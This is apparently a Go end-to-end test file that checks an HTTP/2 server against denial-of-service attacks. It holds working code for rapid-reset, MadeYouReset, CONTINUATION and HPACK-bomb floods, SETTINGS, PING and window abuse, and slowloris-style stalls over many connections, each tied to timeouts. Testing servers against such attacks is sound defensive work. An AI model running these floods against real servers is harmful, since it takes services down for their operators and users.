package e2e_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"strconv"
	"time"

	"golang.org/x/net/http2"
)

// floods send as much as they can.
var floods = []attack{
	{name: "streams that are reset at once (CVE-2023-44487)", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		return forever(ctx, func(int) error {
			return errors.Join(x.open(true, "GET", "/hello"), x.WriteRSTStream(x.last, http2.ErrCodeCancel))
		})
	}},
	{name: "streams that the server has to reset (CVE-2025-8671)", secure: true, connections: 4, send: madeYouReset},
	{name: "headers without an end (CVE-2023-45288)", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		x.last += 2
		if err := x.WriteHeaders(http2.HeadersFrameParam{StreamID: x.last, BlockFragment: []byte{0x82}}); err != nil { // :method GET
			return err
		}
		field := append([]byte{0x00, 1, 'x', 0x7f, 0x80, 0x07}, bytes.Repeat([]byte{'x'}, 127+7*128)...) // a literal of about 1 kB
		return forever(ctx, func(int) error { return x.WriteContinuation(x.last, false, field) })
	}},
	{name: "headers without an end, each frame empty", connections: 4, send: func(ctx context.Context, x *attacker) error {
		x.last += 2
		if err := x.WriteHeaders(http2.HeadersFrameParam{StreamID: x.last, BlockFragment: []byte{0x82}}); err != nil {
			return err
		}
		return forever(ctx, func(int) error { return x.WriteContinuation(x.last, false, nil) })
	}},
	{name: "headers that unpack to a thousandfold", secure: true, connections: 4, send: hpackBomb},
	{name: "SETTINGS without an end", secure: true, connections: 4, send: settingsFlood},
	{name: "SETTINGS without an end, of a client that never reads", connections: 4, deaf: true, send: settingsFlood},
	{name: "PING without an end", secure: true, connections: 4, send: pingFlood},
	{name: "PING without an end, of a client that never reads", connections: 4, deaf: true, send: pingFlood},
	{name: "PRIORITY without an end", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		return forever(ctx, func(n int) error {
			return x.WritePriority(uint32(2*n+1)&(1<<30-1)|1, http2.PriorityParam{StreamDep: uint32(n) & (1<<30 - 1), Weight: byte(n)})
		})
	}},
	{name: "frames of unknown types", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		content := make([]byte, 1<<10)
		return forever(ctx, func(n int) error { return x.WriteRawFrame(http2.FrameType(0x0a+n%6), 0xff, uint32(n%3), content) })
	}},
	{name: "empty DATA without an end (CVE-2019-9518)", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		if err := x.open(false, "POST", "/digest"); err != nil {
			return err
		}
		return forever(ctx, func(int) error { return x.WriteData(x.last, false, nil) })
	}},
	{name: "DATA of nothing but padding", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		padding := make([]byte, 255)
		return forever(ctx, func(n int) error {
			if n%200 == 0 { // 51 kB, less than any window
				if err := x.open(false, "POST", "/digest"); err != nil {
					return err
				}
			}
			return x.WriteDataPadded(x.last, false, nil, padding)
		})
	}},
	{name: "more streams than a connection may have", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		return forever(ctx, func(int) error { return x.open(false, "POST", "/digest") })
	}},
	{name: "windows of one byte", secure: true, connections: 4, send: dripWindows},
	{name: "windows that overflow", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		return forever(ctx, func(int) error { return x.WriteWindowUpdate(0, 1<<31-1) })
	}},
	{name: "frames longer than allowed", secure: true, connections: 4, send: func(ctx context.Context, x *attacker) error {
		content := make([]byte, 2<<20)
		return forever(ctx, func(n int) error { return x.WriteRawFrame(http2.FrameType(n%10), 0, 1, content) })
	}},
	{name: "connections that only greet", secure: true, connections: 8, send: func(_ context.Context, x *attacker) error {
		return errors.Join(x.buffer.Flush(), x.conn.Close()) // the next follows at once
	}},
}

// stalls send little and wait, on many connections.
var stalls = []attack{
	{name: "connections that say nothing", raw: true, connections: 200, cut: headerTimeout, send: nothing("")},
	{name: "half a preface", raw: true, connections: 200, cut: headerTimeout, send: nothing(http2.ClientPreface[:12])},
	{name: "a preface and no SETTINGS", raw: true, connections: 200, cut: headerTimeout, send: nothing(http2.ClientPreface)},
	{name: "a preface, SETTINGS and nothing more", connections: 200, cut: idleTimeout, send: nothing("")},
	{name: "half a header over HTTP/2", connections: 200, cut: idleTimeout, send: func(_ context.Context, x *attacker) error {
		return x.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
	}},
	{name: "half a frame over HTTP/2", connections: 200, cut: idleTimeout, send: nothing("\x00\x40\x00\x00\x00\x00\x00\x00\x01half")},
	{name: "a TLS handshake that never begins", secure: true, raw: true, connections: 200, cut: headerTimeout, send: nothing("")},
	{name: "half a TLS handshake", secure: true, raw: true, connections: 200, cut: headerTimeout, send: nothing(halfHello())},
	{name: "TLS, a preface, SETTINGS and nothing more", secure: true, connections: 100, cut: idleTimeout, send: nothing("")},
	{name: "content that never comes", connections: 100, cut: bodyTimeout + idleTimeout, send: func(_ context.Context, x *attacker) error {
		return x.open(false, "POST", "/digest", "content-length", "1000")
	}},
	{name: "answers that are never taken", connections: 100, cut: writeTimeout + idleTimeout, send: func(_ context.Context, x *attacker) error {
		err := x.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for range 5 {
			err = errors.Join(err, x.open(true, "GET", "/pattern/1000000"))
		}
		return err
	}},
	{name: "answers that are never taken, of a client that never reads", connections: 100, cut: writeTimeout + idleTimeout, send: func(_ context.Context, x *attacker) error {
		err := errors.Join(x.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}), x.WriteWindowUpdate(0, 1<<30))
		return errors.Join(err, x.open(true, "GET", "/pattern/8000000"))
	}},
}

// nothing sends some text, and no more.
func nothing(text string) func(context.Context, *attacker) error {
	return func(_ context.Context, x *attacker) error {
		_, err := io.WriteString(x.buffer, text)
		return err
	}
}

// halfHello is the first half of what a TLS client sends first.
func halfHello() string {
	near, far := net.Pipe()
	defer near.Close()
	go func() { _ = tls.Client(far, testAuthority.client("h2")).Handshake() }() // ended by Close
	hello := make([]byte, 100)
	_ = near.SetReadDeadline(time.Now().Add(patience)) // a pipe has deadlines
	if _, err := io.ReadFull(near, hello); err != nil {
		panic(err) // the TLS client of the standard library does not begin
	}
	return string(hello)
}

// madeYouReset has the server reset each stream by breaking a rule that concerns the stream alone.
func madeYouReset(ctx context.Context, x *attacker) error {
	return forever(ctx, func(n int) error {
		if err := x.open(false, "POST", "/digest", "content-length", strconv.Itoa(n%2)); err != nil {
			return err
		}
		switch n % 4 {
		case 0: // more content than announced
			return x.WriteData(x.last, false, []byte("two"))
		case 1: // an increment of nothing
			return x.WriteRawFrame(http2.FrameWindowUpdate, 0, x.last, []byte{0, 0, 0, 0})
		case 2: // a window that overflows
			return x.WriteRawFrame(http2.FrameWindowUpdate, 0, x.last, []byte{0x7f, 0xff, 0xff, 0xff})
		default: // a stream that depends on itself
			return x.WriteRawFrame(http2.FramePriority, 0, x.last, []byte{byte(x.last >> 24), byte(x.last >> 16), byte(x.last >> 8), byte(x.last), 0})
		}
	})
}

func settingsFlood(ctx context.Context, x *attacker) error {
	return forever(ctx, func(n int) error {
		return x.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: uint32(1<<14 + n%2*(1<<24-1-1<<14))},
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n % 100)}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(n % 2 * 4096)})
	})
}

func pingFlood(ctx context.Context, x *attacker) error {
	return forever(ctx, func(n int) error { return x.WritePing(false, [8]byte{byte(n)}) })
}

// hpackBomb puts one long field into the table, and has each request name it thousands of times (RFC 7541 §6.1).
func hpackBomb(ctx context.Context, x *attacker) error {
	const first = 62 // the dynamic table's newest entry
	if err := x.open(true, "GET", "/hello", "x-long", string(bytes.Repeat([]byte{'x'}, 3900))); err != nil {
		return err
	}
	bomb := append([]byte{0x82, 0x87, 0x84}, bytes.Repeat([]byte{0x80 | first}, 16_000)...) // GET https /
	return forever(ctx, func(int) error {
		x.last += 2
		return x.WriteHeaders(http2.HeadersFrameParam{StreamID: x.last, BlockFragment: bomb, EndHeaders: true, EndStream: true})
	})
}

// dripWindows asks for large answers, and takes them byte by byte.
func dripWindows(ctx context.Context, x *attacker) error {
	if err := x.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	const streams = 100
	for range streams {
		if err := x.open(true, "GET", "/pattern/1000000"); err != nil {
			return err
		}
	}
	return forever(ctx, func(n int) error { return x.WriteWindowUpdate(uint32(2*(n%streams)+1), 1) })
}
